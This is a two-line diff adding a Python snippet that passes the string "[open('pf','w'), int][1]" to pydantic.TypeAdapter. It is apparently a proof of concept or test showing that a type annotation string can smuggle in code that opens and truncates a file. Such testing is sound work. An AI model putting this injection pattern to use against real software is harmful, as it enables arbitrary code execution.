@@ -1,0 +1,2 @@
+import pydantic
+pydantic.TypeAdapter("[open('pf','w'), int][1]")
